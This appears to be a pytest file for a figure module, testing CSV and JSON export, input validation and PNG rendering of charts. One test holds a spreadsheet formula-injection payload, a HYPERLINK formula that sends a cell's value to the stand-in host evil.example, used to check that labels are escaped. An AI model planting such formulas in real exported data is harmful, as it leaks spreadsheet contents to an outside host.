"""Figures as values, and the numbers behind them."""

from __future__ import annotations

import csv
import io
import json
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secvm.errors import BadInputError
from secvm.pages.figure import Bars, Curve, Figure, NamedPlace, ReferenceLine, Shade, Stack
from secvm.pages.pictures import picture


def _figure(*curves: Curve, rules: tuple[ReferenceLine, ...] = (), log_across: bool = False) -> Figure:
    return Figure("f", "A <title>", "What is & is not", "round", "share", curves, rules, log_across=log_across)


def test_the_numbers_of_a_figure_are_a_row_for_every_place() -> None:
    figure = _figure(
        Curve("a", [1, 2, 3], [0.5, math.nan, 0.1 + 0.2], [0.4, 0.5, 0.6], [0.6, 0.7, 0.8]),
        Curve("b, too", [2, 2.5], [7, 1e-9]),
        rules=(ReferenceLine("level", 0.25),),
    )
    assert figure.csv() == (
        'round,a,a low,a high,"b, too",level\n'
        "1,0.5,0.4,0.6,,0.25\n"
        "2,,0.5,0.7,7,0.25\n"
        "2.5,,,,1e-09,0.25\n"
        "3,0.30000000000000004,0.6,0.8,,0.25\n"
    )


def test_repro_a_label_could_be_a_formula_in_a_spreadsheet() -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    names = next(csv.reader(io.StringIO(_figure(Curve(evil, [1], [2]), Curve("a=b", [1], [3])).csv())))
    assert names == ["round", f"'{evil}", "a=b"]
    for first in "=+-@\t\r":
        assert _figure(Curve(f"{first}x", [1], [2])).csv().partition(",")[2].lstrip('"').startswith("'")


def test_a_curve_that_stands_twice_at_a_place_has_two_rows() -> None:
    assert _figure(Curve("a", [1, 1, 2], [5, 6, 7])).csv() == "round,a\n1,5\n1,6\n2,7\n"


@given(st.lists(st.tuples(st.integers(-50, 50), st.floats(allow_nan=False, allow_infinity=False)), max_size=30))
def test_the_numbers_come_back_exactly(points: list[tuple[int, float]]) -> None:
    figure = _figure(Curve("a", [x for x, _ in points], [y for _, y in points]))
    rows = list(csv.reader(io.StringIO(figure.csv())))[1:]
    assert sorted((float(x), float(y)) for x, y in rows) == sorted((float(x), y) for x, y in points)


def test_a_spec_is_json_that_has_everything_a_page_needs() -> None:
    figure = Figure(
        "f",
        "t",
        "d",
        "round",
        "share",
        [Curve("a", [1, 2], [0.5, math.nan], [0.4, math.inf], [0.6, 1], colour=3, dashed=True), Curve("b", [1], [1])],
        [ReferenceLine("r", math.nan), ReferenceLine("q", 2)],
        [Shade(1, 2, "night")],
        percent=True,
        lowest=0.0,
        bars=Bars([1, 2], [Stack("s", [1, 2], 4)]),
        places=[NamedPlace(1.0, "one")],
    )
    assert json.loads(json.dumps(figure.spec(), allow_nan=False)) == {
        "name": "f",
        "title": "t",
        "description": "d",
        "across": "round",
        "up": "share",
        "percent": True,
        "lowest": 0,
        "highest": None,
        "log_across": False,
        "curves": [
            {
                "name": "a",
                "x": [1, 2],
                "y": [0.5, None],
                "low": [0.4, None],
                "high": [0.6, 1],
                "colour": 3,
                "dashed": True,
            },
            {"name": "b", "x": [1], "y": [1], "low": None, "high": None, "colour": 0, "dashed": False},
        ],
        "bars": {"x": [1, 2], "stacks": [{"name": "s", "values": [1, 2], "colour": 4}]},
        "rules": [{"name": "r", "value": None}, {"name": "q", "value": 2}],
        "shades": [{"low": 1, "high": 2, "name": "night"}],
        "places": [{"value": 1, "label": "one"}],
    }


def test_repro_a_level_given_as_an_integer_is_written_like_any_other() -> None:
    assert _figure(Curve("a", [1], [2]), rules=(ReferenceLine("floor", 120),)).csv() == "round,a,floor\n1,2,120\n"


@pytest.mark.parametrize(
    "wrong",
    [
        lambda: Curve("a", [1, 2], [1]),
        lambda: Curve("a", [1], [1], low=[0]),
        lambda: Curve("a", [math.nan], [1]),
        lambda: _figure(Curve("a", [1], [1]), Curve("a", [1], [1])),
        lambda: _figure(Curve("a", [0], [1]), log_across=True),
        lambda: Figure("../up", "t", "d", "x", "y", []),
        lambda: Bars([1, 2], [Stack("a", [1])]),
        lambda: Bars([1], [Stack("a", [-1])]),
        lambda: Bars([1, 1], [Stack("a", [1, 2])]),
        lambda: Bars([math.inf], [Stack("a", [1])]),
        lambda: Figure("f", "t", "d", "x", "y", bars=Bars([1], [Stack("a", [1])]), log_across=True),
        lambda: Figure("f", "t", "d", "x", "y", [Curve("a", [1], [1])], bars=Bars([1], [Stack("a", [1])])),
    ],
)
def test_what_cannot_be_drawn_is_refused_in_a_sentence(wrong: object) -> None:
    assert callable(wrong)
    with pytest.raises(BadInputError):
        wrong()


def test_bars_are_rows_of_the_numbers_too_and_a_figure_may_be_empty() -> None:
    bars = Bars([1, 2, 3], [Stack("s0", [3, 4, 5]), Stack("s1", [1, math.nan, 2])])
    assert Figure("f", "t", "d", "round", "people", bars=bars).csv() == "round,s0,s1\n1,3,1\n2,4,\n3,5,2\n"
    assert _figure().csv() == "round\n"


@pytest.mark.parametrize("log_across", [False, True])
def test_repro_a_picture_of_one_place_warns_nobody(log_across: bool) -> None:
    # matplotlib warned of an axis without width, in the middle of a command's output; here a warning is an error.
    figure = _figure(Curve("a", [300], [0.5], [0.4], [0.6]), log_across=log_across)
    assert picture(figure).startswith(b"\x89PNG")
